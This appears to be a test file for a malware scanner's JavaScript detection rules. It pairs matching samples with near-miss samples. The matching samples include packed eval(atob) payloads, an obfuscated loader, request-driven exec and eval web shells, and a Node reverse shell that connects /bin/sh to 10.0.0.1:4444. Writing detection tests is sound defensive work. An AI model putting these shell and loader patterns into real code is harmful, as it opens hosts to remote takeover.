import { BASE64, JS, testSignatures } from '../../test/signature-rows.ts'
import { javascriptSignatures } from './javascript.ts'

const NAMES_0X = Array.from({ length: 30 }, (_, index) => `_0x${(0xa1b2 + index).toString(16)}`)

testSignatures(javascriptSignatures, {
  'javascript-packed-program': {
    hits: [
      [JS, `ev¦al(at¦ob("${BASE64}"))`],
      [JS, `new Func¦tion(at¦ob('${BASE64}'))()`],
      [JS, `ev¦al(Buff¦er.from("${BASE64}", "base64").toString())`],
      [JS, `ev¦al(String.fromChar¦Code(${'118,97,114,32,'.repeat(20)}59))`],
      [JS, `document.write(unes¦cape('${'%u4141'.repeat(100)}'))`],
    ],
    nearMisses: [
      [JS, `const logo = atob("${BASE64}"); document.title = logo`],
      [JS, "module.exports = { test: 'eval(atob(\"...\"))', deny: ['no-eval', 'no-new-func'] }"],
      [JS, 'eval(String.fromCharCode(97,98,99))'],
    ],
  },
  'javascript-obfuscated-loader': {
    hits: [[JS, `var _0xa1b2=['x'];(function(){${NAMES_0X.join(';')};ev¦al(_0xa1b9)})()`]],
    nearMisses: [[JS, `var _0x1a2b=['a','b'];function f(_0x3c4d){return _0x1a2b[_0x3c4d]}`]],
  },
  'javascript-obfuscated': {
    hits: [[JS, `var _0xa1b2=['x'];(function(){${NAMES_0X.join(';')}})()`]],
    nearMisses: [[JS, 'var _0x1a2b = 0x1a2b; function _0xab() {}']],
  },
  'node-command-of-request': {
    hits: [
      [
        JS,
        "const { exec } = require('child_¦process')\nrequire('http').createServer((req, res) => { exec¦(req.query.cmd, (e, out) => res.end(out)) })",
      ],
    ],
    nearMisses: [
      [
        JS,
        "const { exec } = require('child_process')\nexec('git status', (error, out) => console.log(out))\nconst m = /x/.exec(req.query.name)",
      ],
    ],
  },
  'node-eval-of-request': {
    hits: [[JS, "const app = express()\napp.get('/', (req, res) => { res.send(ev¦al(req.query.x)) })"]],
    nearMisses: [[JS, "app.get('/', (req, res) => res.send(redis.eval(req.query.x)))"]],
  },
  'node-web-shell': {
    hits: [
      [
        JS,
        "createServer((request) => { const cmd = url.search¦Params.get('cmd'); require('child_¦process').execSync(cmd) })",
      ],
    ],
    nearMisses: [
      [
        JS,
        "createServer((request) => { const name = url.searchParams.get('name'); require('child_process').execSync('date') })",
      ],
    ],
  },
  'node-reverse-shell': {
    hits: [
      [
        JS,
        "var net = require('net'), sh = require('child_¦process').spawn('/bin/sh');\nvar client = new net.Socket(); client.conn¦ect(4444, '10.0.0.1', function () { client.pi¦pe(sh.stdin); sh.stdout.pi¦pe(client) })",
      ],
    ],
    nearMisses: [
      [
        JS,
        "const sh = require('child_process').spawn('sh')\nprocess.stdin.pipe(sh.stdin)\nsh.stdout.pipe(process.stdout)",
      ],
    ],
  },
})
